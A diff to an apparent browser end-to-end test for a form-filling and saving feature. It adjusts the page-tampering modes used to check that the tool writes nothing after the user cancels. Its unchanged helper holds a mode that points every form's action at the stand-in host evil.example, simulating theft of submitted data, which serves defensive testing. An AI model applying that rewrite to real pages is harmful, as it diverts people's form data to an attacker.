@@ -76,10 +76,12 @@ describe('a press that goes, fills and saves', () => {
 
   it('writes and saves nothing after it was called off', async () => {
     const before = permissions();
-    await tamper('no-links');
+    await tamper('no-way');
     await go();
     await eventually(says('[role=status]')).toContain('Waiting for “Permission”');
     await stage.hands.press(stage.panel.page, 'button', 'Do not fill it after all');
+    await eventually(() => stage.relay.url()).toBe(`https://${host}/`);
+    await tamper('not-at-all');
     await stage.relay.goto(form);
     await eventually(says('.fill')).toContain('Fill 2 fields');
     expect(Object.values(await held(stage.relay, ['permission.title']))).toEqual(['']);
@@ -97,7 +99,7 @@ describe('a press that goes, fills and saves', () => {
   });
 });
 
-type Tampering = 'hold' | 'no-links' | 'elsewhere';
+type Tampering = 'hold' | 'no-way' | 'elsewhere' | 'not-at-all';
 
 /** Runs in each page before anything of its own. */
 function tamperWithPages(): void {
@@ -105,7 +107,7 @@ function tamperWithPages(): void {
     const how = sessionStorage.getItem('tampering');
     const title = document.querySelector('[data-truth="permission.title"]');
     if (how === 'hold' && title instanceof HTMLInputElement) title.value = 'Editors';
-    if (how === 'no-links') for (const link of document.querySelectorAll('a')) link.remove();
+    if (how === 'no-way') for (const each of document.querySelectorAll('a, form')) each.remove();
     if (how !== 'elsewhere') return;
     for (const each of document.forms) each.setAttribute('action', 'https://evil.example/');
   });
